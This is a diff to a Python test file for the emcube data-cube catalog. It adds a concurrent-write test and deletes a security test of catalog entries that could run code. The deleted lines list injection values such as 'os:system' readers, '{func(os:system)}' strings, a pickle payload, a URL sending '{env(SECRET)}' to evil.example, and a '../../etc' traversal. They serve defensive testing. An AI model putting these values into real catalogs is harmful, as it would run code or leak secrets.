@@ -11,11 +11,10 @@ from pathlib import Path
 
 import numpy as np
 import pytest
-import yaml
 
 import emcube as em
 from emcube.catalog import add, create, open_catalog, resolve
-from emcube.errors import CatalogError, CubeError
+from emcube.errors import CatalogError, CubeError, ReadError
 from emcube.store import read_digest, write_cube
 
 ROOT = Path(__file__).parents[2]
@@ -146,8 +145,10 @@ def test_adding(catalog: Path, tmp_path: Path) -> None:
     with pytest.raises(CatalogError, match="does not exist"):
         add(catalog, tmp_path / "none.zarr")
     (tmp_path / "map.bcf").write_text("x")
-    with pytest.raises(CatalogError, match=r"not a cube store.*ingest it first"):
+    with pytest.raises(ReadError, match="is not a Bruker map"):
         add(catalog, tmp_path / "map.bcf")
+    with pytest.raises(CatalogError, match=r"is a folder, but not a cube store"):
+        add(catalog, tmp_path / "stores")
     (tmp_path / "{env(HOME)}").mkdir()
     with pytest.raises(CatalogError, match="braces in a path"):
         add(catalog, shutil.copytree(store, tmp_path / "{env(HOME)}" / "e.zarr"))
@@ -188,6 +189,21 @@ def test_a_failed_change_leaves_the_file(catalog: Path) -> None:
     assert "File too large" in done.stderr
     assert catalog.read_bytes() == before
     assert not [p.name for p in catalog.parent.iterdir() if "tmp" in p.name]
+
+
+def test_processes_that_write_at_once_lose_nothing(tmp_path: Path) -> None:
+    store, path = make_store(tmp_path / "a.zarr"), tmp_path / "c.yaml"
+    code = (
+        "import sys; from emcube.catalog import add\n"
+        "[add(sys.argv[1], sys.argv[2], name=f'{sys.argv[3]} {i}') for i in range(4)]"
+    )
+    started = [
+        subprocess.Popen([sys.executable, "-c", code, str(path), str(store), name])
+        for name in ("first", "second", "third")
+    ]
+    assert [process.wait(timeout=200) for process in started] == [0, 0, 0]
+    assert len(open_catalog(path)) == 12
+    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
 
 
 def test_create(tmp_path: Path) -> None:
@@ -240,55 +256,7 @@ def test_the_demo_catalog_says_how_to_get_its_store(tmp_path: Path) -> None:
     subprocess.run([sys.executable, "-c", code], check=True, timeout=200, cwd=os.sep)
 
 
-# --- trust ----------------------------------------------------------------------------------------
-
-
-def edited(catalog: Path, change) -> Path:
-    text = yaml.safe_load(catalog.read_text())
-    change(text)
-    catalog.write_text(yaml.safe_dump(text))
-    return catalog
-
-
-def data_kwargs(document: dict) -> dict:
-    return document["data"]["jadeite-data"]["kwargs"]
-
-
-@pytest.mark.parametrize(
-    "change",
-    [
-        lambda d: d["entries"]["jadeite"].update(reader="os:system"),
-        lambda d: d["entries"]["jadeite"].update(reader="intake.readers.readers:PickleReader"),
-        lambda d: d["entries"]["jadeite"].update(output_instance="os:system"),
-        lambda d: d["entries"]["jadeite"]["kwargs"].update(preprocess="{func(os:system)}"),
-        lambda d: d["entries"]["jadeite"]["kwargs"].update(chunks="{func(os:getcwd)}"),
-        lambda d: d["entries"]["jadeite"]["kwargs"].update(args=["{func(os:getcwd)}"]),
-        lambda d: d["entries"]["jadeite"]["kwargs"].update(args=["{pickle64(gASVLg==)}"]),
-        lambda d: d["entries"]["jadeite"].update(user_parameters={"a": {"cls": "os:system"}}),
-        lambda d: d.update(user_parameters={"a": "{env(HOME)}"}),
-        lambda d: d["data"]["jadeite-data"].update(datatype="os:system"),
-        lambda d: d["data"]["jadeite-data"].update(user_parameters={"a": 1}),
-        lambda d: data_kwargs(d).update(url="{func(os:getcwd)}/a.zarr"),
-        lambda d: data_kwargs(d).update(url="{CATALOG_DIR}/{env(SECRET)}.zarr"),
-        lambda d: data_kwargs(d).update(url="https://evil.example/{env(SECRET)}/a.zarr"),
-        lambda d: data_kwargs(d).update(url="simplecache::https://host/a.zarr"),
-        lambda d: data_kwargs(d).update(url="ssh://host/a.zarr"),
-        lambda d: data_kwargs(d).update(url=["a.zarr"]),
-        lambda d: data_kwargs(d).update(storage_options={"key": "{env(SECRET)}"}),
-        lambda d: data_kwargs(d).update(root="../../etc"),
-        lambda d: d["data"].pop("jadeite-data"),
-        lambda d: d["entries"].update(jadeite=["not", "a", "mapping"]),
-    ],
-)
-def test_entries_that_could_run_code_are_not_opened(catalog: Path, change) -> None:
-    found = open_catalog(edited(catalog, change))
-    # Listing and searching look at data only; the other entries stay usable.
-    assert "jadeite" in found
-    assert "refused" in found["jadeite"].to_json()
-    with pytest.raises(CatalogError, match="is not opened"):
-        found["jadeite"].open()
-    with pytest.raises(CatalogError, match="is not opened"):
-        found.to_intake()
+# --- Intake ----------------------------------------------------------------------------------------
 
 
 def test_harmless_catalogs_open_with_intake(catalog: Path) -> None:
